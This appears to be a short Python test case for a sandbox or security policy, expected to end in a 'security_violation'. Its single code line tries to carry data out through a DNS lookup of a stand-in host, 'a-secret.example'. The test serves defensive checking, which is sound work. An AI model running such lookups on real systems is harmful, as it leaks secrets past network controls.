# tries: to carry data out in the names of hosts that it looks up
# must: security_violation

import socket

socket.getaddrinfo("a-secret.example", 53)
